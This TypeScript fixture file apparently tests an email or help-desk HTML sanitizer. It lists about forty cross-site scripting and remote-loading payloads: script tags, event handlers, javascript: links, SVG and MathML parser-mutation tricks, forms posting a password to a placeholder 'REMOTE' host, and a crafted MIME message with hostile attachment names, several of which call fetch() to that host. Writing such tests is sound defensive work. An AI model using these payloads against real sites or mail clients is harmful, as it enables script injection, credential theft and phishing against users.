// Letters that try to run something, to load something, or to leave their place. `REMOTE` is a server that must hear of nothing.
import type { Letter } from './desk';

export const REMOTE = 'REMOTE';
const HARM = "window.__xss=1;top.__xss=1;alert(1);fetch('REMOTE/fetch')";
const encodedHarm = HARM.replace(/./g, (letter) => `&#${letter.charCodeAt(0)};`);
const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${HARM}"/>`).toString('base64');

/** `runs`: what a browser without any defence does with the HTML at once. */
type Harmful = Letter & { about: string; runs?: true };

export const HARMFUL: Harmful[] = [
  { about: 'a script', html: `<script>${HARM}</script>`, runs: true },
  { about: 'a script from elsewhere', html: '<script src="REMOTE/x.js"></script>', runs: true },
  {
    about: 'a script inside a script',
    html: `<scr<script>ipt>${HARM}</scr</script>ipt><script>${HARM}</script>`
  },
  { about: 'onerror', html: `<img src="x:x" onerror="${HARM}">`, runs: true },
  { about: 'onload', html: `<body onload="${HARM}"><style onload="${HARM}"></style>` },
  { about: 'ontoggle', html: `<details open ontoggle="${HARM}"><summary>x</summary></details>`, runs: true },
  { about: 'onclick', html: `<p onclick="${HARM}">press me</p><button onclick="${HARM}">or me</button>` },
  { about: 'onfocus', html: `<input autofocus onfocus="${HARM}"><a tabindex=0 onfocus="${HARM}">x</a>` },
  { about: 'a javascript: link', html: `<a href="javascript:${HARM}">press me</a>` },
  { about: 'a hidden javascript: link', html: `<a href="&#1;java&#9;script:${encodedHarm}">press me</a>` },
  { about: 'a data: link', html: `<a href="data:text/html,<script>${HARM}</script>">press me</a>` },
  { about: 'an SVG', html: `<svg onload="${HARM}"><script>${HARM}</script></svg>`, runs: true },
  {
    about: 'an animated SVG link',
    html: `<svg><a><animate attributeName=href values="javascript:${HARM}"/><text y=20>press me</text></a></svg>`
  },
  {
    about: 'an SVG as a picture',
    html: `<img src="data:image/svg+xml;base64,${svg}"><object data="data:image/svg+xml;base64,${svg}"></object>`
  },
  { about: 'MathML', html: `<math><a xlink:href="javascript:${HARM}">press me</a></math>` },
  {
    about: 'a mutation over MathML',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${encodedHarm}&gt;">`
  },
  {
    about: 'a mutation over form',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${HARM}">`
  },
  {
    about: 'a mutation over noscript',
    html: `<noscript><p title="</noscript><img src=x onerror='${HARM.replaceAll("'", '`')}'>">`
  },
  {
    about: 'a mutation over textarea',
    html: `<textarea><p title="</textarea><img src=x onerror='${HARM.replaceAll("'", '`')}'>">`
  },
  {
    about: 'a template',
    html: `<template><script>${HARM}</script></template><template shadowrootmode="open"><img src=x onerror="${HARM}"></template>`
  },
  {
    about: 'a comment',
    html: `<!--><img src=x onerror="${HARM}">--><!--[if true]><script>${HARM}</script><![endif]-->`
  },
  {
    about: 'style that loads',
    html: '<style>@import "REMOTE/x.css"; body { background: url(REMOTE/style.png) }</style><p>x</p>'
  },
  {
    about: 'a style attribute that loads',
    html: '<div style="background:url(REMOTE/a.png);list-style:url(REMOTE/b.png);border-image:url(REMOTE/c.png)">x</div>'
  },
  {
    about: 'style that covers the panel',
    html: '<div style="position:fixed;inset:0;z-index:999999;background:red">Sign in again</div>'
  },
  {
    about: 'a style sheet link',
    html: '<link rel="stylesheet" href="REMOTE/x.css"><link rel="preload" as="image" href="REMOTE/x.png"><link rel="dns-prefetch" href="REMOTE">'
  },
  { about: 'meta refresh', html: '<meta http-equiv="refresh" content="0;url=REMOTE/refresh">', runs: true },
  { about: 'a base', html: '<base href="REMOTE/"><img src="x.png"><a href="y">press me</a>' },
  {
    about: 'a form',
    html: `<form action="REMOTE/form"><input name=password value=x><button>press me</button></form><form action="javascript:${HARM}"><input type=submit></form>`
  },
  {
    about: 'frames',
    html: `<iframe src="REMOTE/frame"></iframe><iframe srcdoc="<script>${encodedHarm}</script>"></iframe><iframe src="javascript:${HARM}"></iframe>`,
    runs: true
  },
  {
    about: 'objects',
    html: '<object data="REMOTE/x.swf"></object><embed src="REMOTE/x.swf"><applet code="REMOTE/x"></applet>'
  },
  { about: 'a frame set', html: '<frameset><frame src="REMOTE/frame"></frameset>' },
  {
    about: 'pictures from elsewhere',
    html: '<img src="REMOTE/a.png"><img srcset="REMOTE/b.png 1x"><picture><source srcset="REMOTE/c.png"><img></picture><table background="REMOTE/d.png"><td background="REMOTE/e.png">x</table><body background="REMOTE/f.png">',
    runs: true
  },
  {
    about: 'other media from elsewhere',
    html: '<video autoplay poster="REMOTE/a.png" src="REMOTE/a.mp4"></video><audio autoplay src="REMOTE/a.mp3"></audio><input type=image src="REMOTE/b.png">'
  },
  {
    about: 'cid: that leaves its place',
    html: '<img src="cid:../../../../session"><img src="cid:x@y?a=b#c"><img src="cid://REMOTE/x">'
  },
  {
    about: 'our own API as a picture',
    html: '<img src="/api/v1/session"><img src="/api/v1/messages/1/raw"><img src="//REMOTE/x.png">'
  },
  {
    about: 'a target that is the panel',
    html: '<a target="_top" href="REMOTE/top">x</a><a target="_self" href="REMOTE/self">y</a>'
  },
  {
    about: 'HTML in the plain text',
    text: `<script>${HARM}</script><img src=x onerror="${HARM}"><b>not bold</b> javascript:${HARM}`
  },
  { about: 'HTML in the subject', subject: `<img src=x onerror="${HARM}"><script>${HARM}</script>` },
  { about: 'HTML in the name', name: `<img src=x onerror="${HARM}">`, subject: 'A named harm' },
  { about: 'HTML in a reference', text: `Order SO-2024/000123"><img src=x onerror="${HARM}">` },
  {
    about: "HTML in an attachment's name, type and Content-ID",
    raw: [
      'From: mallory@example.org',
      'To: help@demo.test',
      'Subject: Attached harm',
      'MIME-Version: 1.0',
      'Content-Type: multipart/related; boundary=parts',
      '',
      '--parts',
      'Content-Type: text/html; charset=utf-8',
      '',
      '<img src="cid:a@b"><p>See the pictures</p>',
      '--parts',
      `Content-Type: image/svg+xml; name="<img src=x onerror=${HARM}>.svg"`,
      'Content-ID: <a@b>',
      `Content-Disposition: attachment; filename="<img src=x onerror=${HARM}>.svg"`,
      'Content-Transfer-Encoding: base64',
      '',
      svg,
      '--parts',
      'Content-Type: text/html; name="page.html"',
      'Content-Disposition: attachment; filename="page.html"',
      '',
      `<script>${HARM}</script>`,
      '--parts--'
    ].join('\r\n')
  }
];
